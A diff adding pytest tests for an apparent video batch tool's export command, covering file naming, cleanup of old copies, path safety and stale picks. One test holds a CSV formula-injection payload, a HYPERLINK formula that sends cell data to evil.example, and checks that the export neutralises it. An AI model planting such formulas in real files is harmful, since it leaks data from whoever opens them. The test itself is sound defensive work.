@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 from PIL import Image
+from runner_helpers import make_images, run_cli, write_manifest
 from test_review import build_takes_batch
 
 from batchgen.cli import main
@@ -91,6 +92,9 @@ def test_all_exports_every_download_under_a_name_template(picked, tmp_path):
     assert sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*.mp4")) == [
         f"shot0{i}/image-to-video-pro-take{t}-4s.mp4" for i in range(3) for t in (1, 2)]
     assert len(list(dest.rglob("*.jpg"))) == 6
+    again = export(picked, dest, everything=True)
+    assert len(again.written) == len(again.removed) == 6
+    assert sorted(p.name for p in dest.iterdir() if p.is_dir()) == [], "the emptied {stem} folders go too"
 
 
 @pytest.mark.parametrize("template, error, words", [
@@ -128,8 +132,16 @@ def test_a_missing_or_altered_source_is_reported_with_its_job_and_fails_the_comm
     assert "4 written" in printed
     assert sorted(p.name for p in dest.glob("*.mp4")) == [f"shot0{i}-4s-720p-take{t}.mp4" for i in range(3) for t in (1, 2)]
     assert (dest / "shot01-4s-720p-take1.mp4").read_bytes() == delivered, "an altered source never replaces a delivery"
-    assert [v["id"] for v in json.loads((dest / "index.json").read_text())["videos"]] == [
-        "shot00-4s-720p-take1", "shot01-4s-720p-take2", "shot02-4s-720p-take1", "shot02-4s-720p-take2"]
+    index = json.loads((dest / "index.json").read_text())["videos"]
+    assert [v["id"] for v in index] == [f"shot0{i}-4s-720p-take{t}" for i in range(3) for t in (1, 2)], (
+        "the index lists what the folder holds, the earlier copies kept included")
+    # Picked away from the broken takes: their earlier copies go like any other no longer picked.
+    rows = group_rows(load(picked))
+    save_picks(out, {rows[0].key: make_pick(rows[0], "picked", rows[0].takes[0].key),
+                     rows[1].key: make_pick(rows[1], "picked", rows[1].takes[1].key)})
+    again = export(picked, dest)
+    assert again.problems == [] and sorted(p.name for p in dest.glob("*.mp4")) == [
+        "shot00-4s-720p-take1.mp4", "shot01-4s-720p-take2.mp4"]
 
 
 def test_nothing_picked_says_how_to_pick_or_export_everything(make_sim, tmp_path, monkeypatch, capsys):
@@ -144,3 +156,92 @@ def test_the_output_folder_itself_is_not_a_delivery_folder(picked, capsys):
     assert main(["export", str(picked), "--to", str(picked.parent)]) == 2
     assert "is the batch's own output folder" in capsys.readouterr().err
     assert not (picked.parent / "index.json").exists()
+
+
+def test_a_prompt_a_spreadsheet_would_run_is_plain_text_in_the_csv_and_exact_in_the_json(make_sim, tmp_path,
+                                                                                          monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    make_images(tmp_path / "img", 2)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)"]
+    write_manifest(tmp_path, [{"image": f"img/shot0{i}.png", "prompt": text, "duration": 4}
+                              for i, text in enumerate(formulas)])
+    assert run_cli(make_sim(), tmp_path / "batch.yaml", tmp_path / "out") == 0
+    dest = tmp_path / "delivery"
+    assert export(tmp_path / "out" / "state.jsonl", dest, everything=True).problems == []
+    with open(dest / "index.csv", newline="") as handle:
+        assert [row["prompt"] for row in csv.DictReader(handle)] == ["'" + text for text in formulas]
+    assert [v["prompt"] for v in json.loads((dest / "index.json").read_text())["videos"]] == formulas
+
+
+def test_a_delivery_folder_above_the_batch_never_deletes_or_overwrites_the_batchs_videos(picked, tmp_path):
+    out = picked.parent                                             # tmp_path/out: --to tmp_path lies above it
+    videos = sorted(p.name for p in out.glob("*.mp4"))
+    with pytest.raises(OutputPathError, match="inside the batch's own output folder"):
+        export(picked, tmp_path, template="out/{id}", everything=True)
+    # An index.json (an older batchgen's, or edited) listing the batch's videos: a re-export removes none.
+    (tmp_path / "index.json").write_text(json.dumps({"version": 1, "videos": [{"file": f"out/{v}"} for v in videos]}))
+    result = export(picked, tmp_path)
+    assert result.removed == [] and result.problems == []
+    assert sorted(p.name for p in out.glob("*.mp4")) == videos and not list(out.glob("*.jpg"))
+
+
+def test_a_file_given_as_the_delivery_folder_or_a_note_in_the_name_is_a_usage_error(picked, tmp_path, capsys):
+    (tmp_path / "afile").write_text("not a folder")
+    assert main(["export", str(picked), "--to", str(tmp_path / "afile"), "--all"]) == 2
+    assert main(["export", str(picked), "--to", str(tmp_path / "afile" / "sub"), "--all"]) == 2
+    err = capsys.readouterr().err
+    assert err.count("cannot make the delivery folder there") == 2 and "internal error" not in err
+    assert main(["export", str(picked), "--to", str(tmp_path / "d"), "--name", "{id}-{note}"]) == 2
+    err = capsys.readouterr().err
+    assert "unknown placeholder {note}" in err and "{note}" not in err.split("known here:")[1]
+
+
+def test_names_that_differ_only_by_case_collide(make_sim, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    first, second = make_images(tmp_path / "img", 2)
+    first.rename(tmp_path / "img" / "Mug.png")
+    second.rename(tmp_path / "img" / "mug.png")
+    write_manifest(tmp_path, [{"image": f"img/{name}", "prompt": "turn", "duration": 4, "output": f"{n}-{{stem}}"}
+                              for n, name in enumerate(("Mug.png", "mug.png"))])
+    assert run_cli(make_sim(), tmp_path / "batch.yaml", tmp_path / "out") == 0
+    with pytest.raises(OutputPathError, match=r"the same file Mug\.mp4 \(up to case: mug\.mp4\)"):
+        export(tmp_path / "out" / "state.jsonl", tmp_path / "delivery", template="{stem}", everything=True)
+
+
+def test_a_name_given_to_another_video_gets_that_videos_poster(picked, tmp_path):
+    dest = tmp_path / "delivery"
+    rows = group_rows(load(picked))
+    save_picks(picked.parent, {rows[0].key: make_pick(rows[0], "picked", rows[0].takes[0].key)})
+    export(picked, dest, template="take{take}")
+    first = (dest / "take1.jpg").read_bytes()
+    save_picks(picked.parent, {rows[2].key: make_pick(rows[2], "picked", rows[2].takes[0].key)})
+    assert export(picked, dest, template="take{take}").written == ["take1.mp4"]
+    fresh = tmp_path / "fresh"
+    export(picked, fresh, template="take{take}")
+    assert (dest / "take1.jpg").read_bytes() == (fresh / "take1.jpg").read_bytes() != first
+
+
+def test_a_link_planted_in_the_delivery_folder_is_never_written_through(picked, tmp_path):
+    dest, outside = tmp_path / "delivery", tmp_path / "outside.txt"
+    dest.mkdir()
+    outside.write_text("keep me")
+    for name in (".index.json.tmp", ".index.csv.tmp", "index.json.part"):
+        os.symlink(outside, dest / name)
+    with pytest.raises(OutputPathError, match="index.json.part"):
+        export(picked, dest)
+    (dest / "index.json.part").unlink()
+    assert export(picked, dest).problems == []
+    assert outside.read_text() == "keep me" and json.loads((dest / "index.json").read_text())["videos"]
+
+
+def test_a_pick_whose_take_is_no_longer_in_its_row_is_named_and_fails_the_command(picked, tmp_path, capsys):
+    """Picked, then the job was edited and ran again (a new key), or the row moved to another line."""
+    picks = json.loads((picked.parent / "picks.json").read_text())["rows"]
+    rows = group_rows(load(picked))
+    picks[rows[2].key] = {**make_pick(rows[2], "picked", rows[2].takes[0].key), "take": "key-of-an-older-version"}
+    picks["batch.yaml:99#img/gone.png"] = {"status": "picked", "take": "k", "job": "gone-take1", "note": ""}
+    save_picks(picked.parent, picks)
+    assert main(["export", str(picked), "--to", str(tmp_path / "delivery")]) == 1
+    out = capsys.readouterr().out
+    assert "2 written" in out and f"row {rows[2].key}: the picked take (job shot02-4s-720p-take1) is no longer" in out
+    assert "row batch.yaml:99#img/gone.png: the picked take (job gone-take1)" in out and "pick again" in out
